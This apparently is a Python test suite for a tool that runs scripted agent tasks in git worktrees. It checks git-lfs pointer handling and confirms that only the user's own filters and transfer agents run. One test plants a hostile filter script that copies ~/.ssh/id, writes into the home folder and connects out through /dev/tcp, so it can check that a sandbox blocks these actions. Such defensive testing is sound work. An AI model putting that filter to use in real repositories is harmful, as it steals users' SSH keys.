#!/usr/bin/env python3
"""Repositories with filters: the real git-lfs as a person installs it, and filters of other names.
What git's own status shows as clean is clean, content is committed as a pointer and stands in the
user's tree as content, only the user's own configuration says what runs, and it is held."""
import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

from support import expect, main, needs, of_type, records

FLOW = """
name: edits
provider: script
workspace: worktree
judge: {stages: [phase1_tag]}
movements:
  - name: work
    command: [sh, -ec, "COMMAND"]
    rules: [{condition: when(exit == 0), next: COMPLETE}, {condition: no, next: ABORT}]
"""
POINTER = b"version https://git-lfs.github.com/spec/v1\n"
CONTENT = bytes(range(256)) * 20


def git(box, *words, at=None, ok=True):
    done = subprocess.run(["git", *words], cwd=at or box.cwd, env=box.env, capture_output=True, check=False)
    expect(done.returncode == 0 or not ok, "git", *words, done.stderr)
    return done.stdout


def repository(box, lfs=True):
    """One with big.bin behind LFS and a plain file. What the machine has for all users does not count."""
    box.env["GIT_CONFIG_NOSYSTEM"] = "1"
    for key, value in (("user.name", "Some One"), ("user.email", "one@example.org"), ("init.defaultBranch", "main")):
        git(box, "config", "--global", key, value)
    if lfs:
        git(box, "lfs", "install", "--skip-repo")
    git(box, "init", "-q")
    Path(box.cwd + "/.gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    Path(box.cwd + "/big.bin").write_bytes(CONTENT)
    Path(box.cwd + "/a").write_text("one\n")
    git(box, "add", "-A")
    git(box, "commit", "-qm", "first")
    expect(git(box, "show", "HEAD:big.bin").startswith(POINTER) == lfs, "the filter did not run")


def run(box, command, status=0, **how):
    done = box.segue("run", box.file("flow.yaml", FLOW.replace('"COMMAND"', json.dumps(command))), "--cwd", box.cwd,
                     "--task", "mend it", "--logs", box.logs, status=status, **how)
    return done, of_type(records(box.begun()[-1]), "workspace")[1]["data"]


def after(box, *words, **how):
    return box.segue(*words, "--logs", box.logs, **how)


def work_and_merge(box):
    needs("git-lfs")
    repository(box)
    _, made = run(box, "test $(wc -c < big.bin) = 5120; yes | head -c 7000 > big.bin; echo new > new.bin")
    expect(git(box, "status", "--porcelain", at=made["path"]) == b"", "the worktree is not clean")
    stored = git(box, "show", made["branch"] + ":big.bin")
    expect(stored.startswith(POINTER) and b"size 7000" in stored, stored)
    for name in ("big.bin", "a"):  # a new time, as new as the index
        os.utime(f"{box.cwd}/{name}")
    after(box, "merge", "last", status=0)
    expect(Path(box.cwd + "/big.bin").read_bytes() == b"y\n" * 3500, "the tree has no content")
    expect(Path(box.cwd + "/new.bin").read_text() == "new\n", "nor has it of a new file")
    expect(git(box, "status", "--porcelain") == b"", git(box, "status", "--porcelain"))
    after(box, "discard", "last", "--yes", status=0)
    git(box, "lfs", "fsck")
    Path(box.cwd + "/big.bin").write_text("mine\n")
    run(box, "echo two > a")
    after(box, "merge", "last", status=2, err="uncommitted changes")
    expect(Path(box.cwd + "/big.bin").read_text() == "mine\n", "what the user wrote")


def without_the_filter(box):
    needs("git-lfs")
    repository(box)
    shutil.rmtree(box.env["HOME"] + "/.gitconfig", ignore_errors=True)
    for key in ("clean", "smudge", "process", "required"):
        git(box, "config", "--global", "--unset", "filter.lfs." + key)
    done, made = run(box, "head -c 5000 /dev/zero > big.bin; echo two > a", status=1)
    expect(b"big.bin is an LFS pointer in git and would be committed as 5000 raw bytes" in done.stdout, done.stdout)
    expect(git(box, "show", made["branch"] + ":a") == b"one\n", "it was committed")
    git(box, "lfs", "install", "--skip-repo")
    after(box, "resume", "last", status=0)
    expect(b"size 5000" in git(box, "show", made["branch"] + ":big.bin"), "it is no pointer")
    for key in ("clean", "smudge", "process", "required"):
        git(box, "config", "--global", "--unset", "filter.lfs." + key)
    run(box, "grep -q oid big.bin; echo '*.bin -filter' > .gitattributes; echo raw > big.bin")


def objects_that_are_not_here(box):
    """They stay pointers, and nobody goes to the network for them."""
    needs("git-lfs")
    repository(box)
    Path(box.cwd + "/.lfsconfig").write_text(f"[lfs]\n\turl = file://{box.dir}/elsewhere\n")
    git(box, "add", ".lfsconfig")
    git(box, "commit", "-qm", "address")
    shutil.rmtree(box.cwd + "/.git/lfs")
    git(box, "config", "lfs.customtransfer.x.path", box.dir + "/never")
    git(box, "config", "lfs.standalonetransferagent", "x")
    box.file("never", f"#!/bin/sh\necho >> {box.dir}/ran\n")
    os.chmod(box.dir + "/never", 0o755)
    _, made = run(box, "head -c 43 big.bin > start; echo two > a")
    expect(git(box, "show", made["branch"] + ":start") == POINTER, git(box, "show", made["branch"] + ":start"))
    expect(git(box, "diff", "--name-only", "main", made["branch"]) == b"a\nstart\n", "the pointer was written")
    expect(not os.path.exists(box.dir + "/ran"), "a program of the repository's configuration ran")


def connections(listener):
    """How many programs have connected since the last question."""
    listener.setblocking(False)
    for n in range(1000):
        try:
            listener.accept()[0].close()
        except BlockingIOError:
            return n
    return 1000


def whose_filters_run(box):
    """Those of the user, held as agents are; never the repository's, in its configuration or its submodules'."""
    repository(box, lfs=False)
    listener = socket.create_server(("127.0.0.1", 0))
    script = box.file("filter", "#!/bin/bash\n{ echo > ~/escaped; cat ~/.ssh/id > ${GIT_DIR:-.git}/taken; "
                      f"echo > /dev/tcp/127.0.0.1/{listener.getsockname()[1]}; }} 2> /dev/null\n"
                      "exec sed \"s/^$1//; s/^/$2/\"\n")
    os.chmod(script, 0o755)
    os.mkdir(box.env["HOME"] + "/.ssh")
    Path(box.env["HOME"] + "/.ssh/id").write_text("secret\n")
    Path(box.cwd + "/.gitattributes").write_text("*.mine filter=mine\n*.theirs filter=theirs\n")
    for key, value in (("clean", f"{script} '' P:"), ("smudge", f"{script} P: ''"), ("required", "true")):
        git(box, "config", "--global", "filter.mine." + key, value)
        git(box, "config", "filter.theirs." + key, value if key == "required" else f"touch {box.dir}/theirs; cat")
    for name in ("x.mine", "x.theirs"):
        Path(f"{box.cwd}/{name}").write_text("data\n")
    git(box, "add", "-A", "x.mine", ".gitattributes")
    git(box, "-c", "filter.theirs.clean=cat", "add", "x.theirs")
    git(box, "commit", "-qm", "filtered")
    expect(connections(listener) > 0, "the filter does not connect")
    Path(box.env["HOME"] + "/escaped").unlink()
    Path(box.cwd + "/.git/taken").unlink()
    Path(box.dir + "/theirs").unlink(missing_ok=True)
    _, made = run(box, "grep -qx data x.mine; echo more >> x.mine; echo more >> x.theirs")
    expect(git(box, "show", made["branch"] + ":x.mine") == b"P:data\nP:more\n", "the user's filter did not run")
    os.utime(box.cwd + "/x.mine")
    after(box, "merge", "last", status=0)
    expect(Path(box.cwd + "/x.mine").read_text() == "data\nmore\n", "not smudged")
    expect(not os.path.exists(box.dir + "/theirs"), "a filter of the repository ran")
    held = "Landlock" in box.segue("doctor").stdout.decode()
    if held:
        expect(not os.path.exists(box.env["HOME"] + "/escaped"), "a filter wrote into the home folder")
        taken = [p.read_text() for p in Path(box.cwd + "/.git").rglob("taken")]
        expect(taken and not any(taken), "a filter did not run, or read a key", taken)
        expect(connections(listener) == 0, "a filter reached the network")
    listener.close()


def one_setting(box):
    """hooks: true holds for the commit, and for merge and discard: the filter is the repository's."""
    needs("git-lfs")
    repository(box)
    for key in ("clean", "smudge", "process", "required"):
        git(box, "config", "filter.lfs." + key, git(box, "config", "--global", "filter.lfs." + key).decode().strip())
        git(box, "config", "--global", "--unset", "filter.lfs." + key)
    box.config("workspace: {hooks: true}\n")
    _, made = run(box, "test $(wc -c < big.bin) = 5120; echo three > big.bin")
    expect(git(box, "show", made["branch"] + ":big.bin").startswith(POINTER), "no pointer")
    os.utime(box.cwd + "/big.bin")
    after(box, "merge", "last", status=0)
    expect(Path(box.cwd + "/big.bin").read_text() == "three\n", "no content")
    os.utime(made["path"] + "/big.bin")
    after(box, "discard", "last", "--yes", status=0)


def pr_sends_the_contents(box):
    """To where the remote's address says, whatever the repository says; a forge would refuse pointers without them."""
    needs("git-lfs")
    repository(box)
    os.mkdir(box.dir + "/bin")
    gh = Path(box.file("bin/gh", "#!/bin/sh\ncase $2 in list) echo '[]';; create) cat > /dev/null; echo https://forge.example/1;; esac\n"))
    gh.chmod(0o755)
    box.env["PATH"] = f"{box.dir}/bin:" + box.env["PATH"]
    up, elsewhere = box.dir + "/up.git", box.dir + "/elsewhere.git"
    for bare in (up, elsewhere):
        git(box, "init", "-q", "--bare", bare)
    git(box, "remote", "add", "origin", up)
    git(box, "push", "-q", "origin", "main")
    box.file("never", f"#!/bin/sh\necho >> {box.dir}/ran\n")
    os.chmod(box.dir + "/never", 0o755)

    def objects(bare):
        return {n for _, _, names in os.walk(bare + "/lfs/objects") for n in names}
    # How many contents are new there: new.bin of the third is there already.
    for command, sent, told in (("echo two > a", 0, False), ("echo new > new.bin", 1, False), ("echo new > new.bin; yes | head -c 9000 > big.bin", 1, False),
                                (f"printf '[lfs]\\n\\turl = file://{elsewhere}\\n' > .lfsconfig; echo x > new.bin", 0, True)):
        _, made = run(box, command)
        for key in ("lfs.url", "lfs.pushurl", "remote.origin.lfsurl", "remote.origin.lfspushurl"):
            git(box, "config", key, "file://" + elsewhere)  # as an agent could
        git(box, "config", "lfs.standalonetransferagent", "x")
        git(box, "config", "lfs.customtransfer.x.path", box.dir + "/never")
        before = objects(up)
        done = after(box, "pr", "last", status=0)
        expect((f"git lfs push origin {made['branch']} does" in done.stderr.decode()) == told, done)
        expect(git(box, "rev-parse", made["branch"], at=up) == git(box, "rev-parse", made["branch"]), command)
        expect(len(objects(up) - before) == sent, command, objects(up) - before)
        expect(not objects(elsewhere) and not os.path.exists(box.dir + "/ran"), "the repository said where they go")
        for key in ("lfs.url", "lfs.pushurl", "remote.origin.lfsurl", "remote.origin.lfspushurl", "lfs.standalonetransferagent"):
            git(box, "config", "--unset", key)
    # What cannot be sent is no pull request.
    shutil.rmtree(up + "/lfs", ignore_errors=True)
    _, made = run(box, "echo more > more.bin")
    Path(up + "/lfs").write_text("in the way")
    done = after(box, "pr", "last", status=2, err="git lfs, origin: ")
    expect(git(box, "branch", "--list", made["branch"], at=up) == b"", done)


if __name__ == "__main__":
    sys.exit(main([work_and_merge, without_the_filter, objects_that_are_not_here, whose_filters_run, one_setting,
                   pr_sends_the_contents]))
